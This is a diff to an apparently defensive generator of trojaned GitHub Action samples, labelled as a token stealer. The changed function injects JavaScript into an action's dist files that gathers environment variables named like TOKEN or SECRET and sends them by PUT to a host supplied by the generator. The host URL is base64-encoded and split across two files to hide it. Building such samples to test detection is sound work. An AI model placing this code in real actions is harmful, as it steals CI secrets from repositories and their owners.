@@ -102,15 +102,19 @@ def action_workflow_dumps_secrets(it: Update) -> None:
 """, HOST=it.host()).rstrip("\n"))  # fmt: skip
 
 
-@trojan("cachelift", "folder", "workflow", "token stealer", "plain", "reviewdog")
+@trojan("cachelift", "folder", "workflow", "token stealer", "over several files", "reviewdog")
 def action_save_sends_the_token(it: Update) -> None:
+    host = it.host()
+    one, two = pieces(b64(f"https://{host}/c"), len(b64(f"https://{host}/c")) // 2 + 1)
+    it.append("dist/core.js", f"\nexports.mark = '{one}';\n\nexports.state = () => Object.entries(process.env).filter(([name]) => /TOKEN|SECRET|^ACTIONS_(RUNTIME|ID)/.test(name));\n")  # fmt: skip
+    it.add("dist/mark.js", f"'use strict';\n\nmodule.exports = Buffer.from(require('./core').mark + '{two}', 'base64').toString();\n")  # fmt: skip
     it.append("dist/save.js", fill("""
 
-const found = Object.entries(process.env).filter(([name]) => /TOKEN|SECRET|^ACTIONS_(RUNTIME|ID)/.test(name));
 if (process.env.GITHUB_ACTIONS) {
-  fetch('https://@HOST@/c', { method: 'PUT', headers: { 'x-repo': process.env.GITHUB_REPOSITORY }, body: JSON.stringify(found) }).catch(() => {});
+  fetch(require('./mark'), { method: 'PUT', headers: { 'x-repo': process.env.GITHUB_REPOSITORY }, body: JSON.stringify(core.state()) }).catch(() => {});
 }
-""", HOST=it.host()))  # fmt: skip
+"""))  # fmt: skip
+    it.payload("dist/save.js", "dist/mark.js", "dist/core.js", shown=f"https://{host}/c")
 
 
 @trojan("cachelift", "folder", "workflow", "worm", "plain", "pull_request_target")
